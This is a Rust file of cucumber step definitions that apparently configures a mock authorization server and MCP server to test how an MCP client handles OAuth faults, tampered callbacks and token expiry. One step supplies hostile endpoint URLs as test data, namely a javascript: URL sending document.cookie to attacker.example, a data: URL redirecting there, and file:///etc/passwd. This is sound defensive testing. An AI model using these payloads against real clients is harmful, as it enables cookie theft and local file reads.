//! Steps of the `@mcp-client` scenarios: the variant of the authorization server and MCP server
//! the client under test will meet (Given; they change the scenario's mock-idp before it
//! starts), and one run of the client on the MCP conformance contract (When).

use cucumber::{given, when};
use mock_idp::Fault;
use serde_json::json;

use crate::roles::client::flow::damage;
use crate::roles::mcp_client::flow::MidSession;
use crate::world::AuthWorld;

/// The pre-registered client of the registration scenarios.
const PRE_REGISTERED_ID: &str = "mcp-pre-registered";
const PRE_REGISTERED_SECRET: &str = "mcp-pre-registered-secret";
/// Access-token lifetime in the expiry scenarios.
const SHORT_TTL: i64 = 300;

fn tweak(w: &mut AuthWorld, f: impl FnOnce(&mut mock_idp::Config) + Send + Sync + 'static) {
    w.mcp_client_flow_mut().tweaks.push(Box::new(f));
}

#[given(
    regex = r"^the authorization server supports only (client_secret_basic|client_secret_post|none) at its token endpoint$"
)]
async fn only_auth_method(w: &mut AuthWorld, method: String) -> Result<(), String> {
    let only = match method.as_str() {
        "client_secret_basic" => mock_idp::config::AuthMethod::ClientSecretBasic,
        "client_secret_post" => mock_idp::config::AuthMethod::ClientSecretPost,
        "none" => mock_idp::config::AuthMethod::None,
        other => {
            return Err(format!(
                "no such token endpoint authentication method: {other}"
            ));
        }
    };
    tweak(w, move |c| c.registration.only_auth_method = Some(only));
    Ok(())
}

#[given("the MCP server names its protected resource metadata only at the well-known URLs")]
async fn metadata_only_at_well_known(w: &mut AuthWorld) {
    tweak(w, |c| c.mcp.metadata_in_challenge = false);
}

#[given("the MCP server names its protected resource metadata only in the challenge")]
async fn metadata_only_in_challenge(w: &mut AuthWorld) {
    tweak(w, |c| c.mcp.metadata_at_well_known = false);
}

#[given(
    regex = r#"^the MCP server's authorization server is the path issuer of tenant "([a-z0-9-]+)"$"#
)]
async fn path_issuer(w: &mut AuthWorld, tenant: String) {
    tweak(w, move |c| {
        if !c.tenants.contains(&tenant) {
            c.tenants.push(tenant.clone());
        }
        c.mcp.authorization_server = Some(tenant);
    });
}

#[given("the protected resource metadata names another resource")]
async fn prm_other_resource(w: &mut AuthWorld) {
    tweak(w, |c| {
        c.mcp.resource = Some("https://other-mcp.example/mcp".into());
    });
}

#[given("the authorization server metadata does not list code_challenge_methods_supported")]
async fn no_pkce_methods(w: &mut AuthWorld) {
    tweak(w, |c| c.faults.push(Fault::OmitCodeChallengeMethods));
}

#[given("the authorization server metadata names an issuer other than the one it was fetched for")]
async fn issuer_mismatch(w: &mut AuthWorld) {
    // The endpoints stay the mock's (through the proxy); only the issuer claim is another's.
    w.mcp_client_flow_mut()
        .metadata_overrides
        .insert("issuer".into(), json!("https://another-issuer.example"));
}

#[given(
    regex = r"^the authorization server metadata names a (javascript|data|file): authorization endpoint$"
)]
async fn hostile_authorization_endpoint(w: &mut AuthWorld, scheme: String) {
    let url = match scheme.as_str() {
        "javascript" => "javascript:fetch('https://attacker.example/?'+document.cookie)//",
        "data" => "data:text/html,<script>location='https://attacker.example/'</script>",
        _ => "file:///etc/passwd",
    };
    w.mcp_client_flow_mut()
        .metadata_overrides
        .insert("authorization_endpoint".into(), json!(url));
}

#[given(
    regex = r"^the client is pre-registered( with another redirect URI)? and registration is closed$"
)]
async fn pre_registered(w: &mut AuthWorld, other_redirect: String) {
    let redirect = if other_redirect.is_empty() {
        w.mcp_client_profile().redirect_uri.clone()
    } else {
        "https://elsewhere.example/cb".to_string()
    };
    // A loopback redirect URI matches on any port (RFC 8252 §7.3): CLIs pick theirs at run time.
    let loopback = url::Url::parse(&redirect)
        .is_ok_and(|u| matches!(u.host_str(), Some("127.0.0.1" | "[::1]" | "localhost")));
    w.agent
        .redactor
        .register("client_secret", PRE_REGISTERED_SECRET);
    w.mcp_client_flow_mut()
        .context
        .insert("client_id".into(), json!(PRE_REGISTERED_ID));
    w.mcp_client_flow_mut()
        .context
        .insert("client_secret".into(), json!(PRE_REGISTERED_SECRET));
    let client = serde_json::from_value::<mock_idp::config::ClientConfig>(json!({
        "client_id": PRE_REGISTERED_ID,
        "client_secret": PRE_REGISTERED_SECRET,
        "client_name": "pre-registered MCP client",
        "token_endpoint_auth_method": "client_secret_basic",
        "redirect_uris": [redirect],
        "grant_types": ["authorization_code", "refresh_token"],
        "scope": "mcp:read mcp:write",
        "loopback_any_port": loopback,
    }))
    .expect("a valid client");
    tweak(w, move |c| {
        c.registration.enabled = false;
        c.clients.push(client);
    });
}

/// The client ID metadata document URL the MCP conformance suite's clients use.
const CONFORMANCE_DOCUMENT_URL: &str = "https://conformance-test.local/client-metadata.json";

#[given("the authorization server accepts client ID metadata documents")]
async fn metadata_documents(w: &mut AuthWorld) {
    let redirect = w.mcp_client_profile().redirect_uri.clone();
    let loopback = url::Url::parse(&redirect)
        .is_ok_and(|u| matches!(u.host_str(), Some("127.0.0.1" | "[::1]" | "localhost")));
    // The documents the clients would publish, as the mock's "fetched" copies.
    let clients: Vec<mock_idp::config::ClientConfig> = [
        reference::mcp_client::METADATA_DOCUMENT_URL,
        CONFORMANCE_DOCUMENT_URL,
    ]
    .iter()
    .map(|url| {
        serde_json::from_value(json!({
            "client_id": url,
            "client_name": "a client known by its metadata document",
            "token_endpoint_auth_method": "none",
            "redirect_uris": [redirect],
            "loopback_any_port": loopback,
            "grant_types": ["authorization_code", "refresh_token"],
            "scope": "mcp:read mcp:write",
        }))
        .expect("a valid client")
    })
    .collect();
    tweak(w, move |c| {
        c.registration.client_id_metadata_documents = true;
        c.clients.extend(clients);
    });
}

#[given("the MCP server is published at an origin of its own, apart from its authorization server")]
async fn separate_origin(w: &mut AuthWorld) {
    w.mcp_client_flow_mut().separate_mcp_origin = true;
}

#[given("the MCP server's challenge names no scope")]
async fn no_challenge_scope(w: &mut AuthWorld) {
    tweak(w, |c| c.mcp.scope_in_challenge = false);
}

#[given("the protected resource metadata lists no scopes")]
async fn no_metadata_scopes(w: &mut AuthWorld) {
    tweak(w, |c| c.mcp.scopes_in_metadata = false);
}

#[given("every tool needs the write scope")]
async fn tools_need_write(w: &mut AuthWorld) {
    tweak(w, |c| {
        c.mcp.write_tools = vec![
            "test-tool".into(),
            "whoami".into(),
            "write_note".into(),
            "call_upstream".into(),
        ];
    });
}

#[given("the MCP server refuses every tool call for want of scope, whatever the token")]
async fn step_up_unsatisfiable(w: &mut AuthWorld) {
    tweak(w, |c| {
        c.mcp.write_tools = vec![
            "test-tool".into(),
            "whoami".into(),
            "write_note".into(),
            "call_upstream".into(),
        ];
        c.mcp.step_up_unsatisfiable = true;
    });
}

#[given("the access token expires once the client has listed the tools")]
async fn expires_after_listing(w: &mut AuthWorld) {
    tweak(w, |c| c.tokens.access_token_ttl = SHORT_TTL);
    // Past the lifetime and the resource server's leeway (30 s in the built-in config).
    w.mcp_client_flow_mut().mid_session = Some((
        MidSession::Expire(SHORT_TTL + 120),
        vec!["tools/list".into()],
    ));
}

#[given(
    "the MCP server's clock passes the access token's expiry once the client has listed the tools, the client's does not"
)]
async fn server_clock_ahead_after_listing(w: &mut AuthWorld) {
    tweak(w, |c| c.tokens.access_token_ttl = SHORT_TTL);
    w.mcp_client_flow_mut().mid_session = Some((
        MidSession::ServerClockAhead(SHORT_TTL + 120),
        vec!["tools/list".into()],
    ));
}

#[given(
    "the access token expires twice: after the client's first notification and after it lists the tools"
)]
async fn expires_twice(w: &mut AuthWorld) {
    tweak(w, |c| c.tokens.access_token_ttl = SHORT_TTL);
    w.mcp_client_flow_mut().mid_session = Some((
        MidSession::Expire(SHORT_TTL + 120),
        vec!["notifications/initialized".into(), "tools/list".into()],
    ));
}

#[given("the refresh token expires with it")]
async fn refresh_expires_too(w: &mut AuthWorld) {
    tweak(w, |c| c.tokens.refresh_token_ttl = SHORT_TTL);
}

#[when(regex = r#"^the MCP client under test connects \(conformance scenario "([a-z0-9/_-]+)"\)$"#)]
async fn connect(w: &mut AuthWorld, scenario: String) -> Result<(), String> {
    w.mcp_client_connect(&scenario).await
}

#[given(
    regex = r"^the browser brings the authorization response back with (a forged state|no state|no code|another issuer's iss|no iss|its iss followed by a slash)$"
)]
async fn tampered_callback(w: &mut AuthWorld, how: String) -> Result<(), String> {
    w.mcp_client_flow_mut().callback_tamper = Some(damage(&how)?);
    Ok(())
}

#[given("the authorization server neither sends nor advertises the iss parameter (RFC 9207)")]
async fn no_rfc9207(w: &mut AuthWorld) {
    tweak(w, |c| c.authorization_response_iss = false);
}
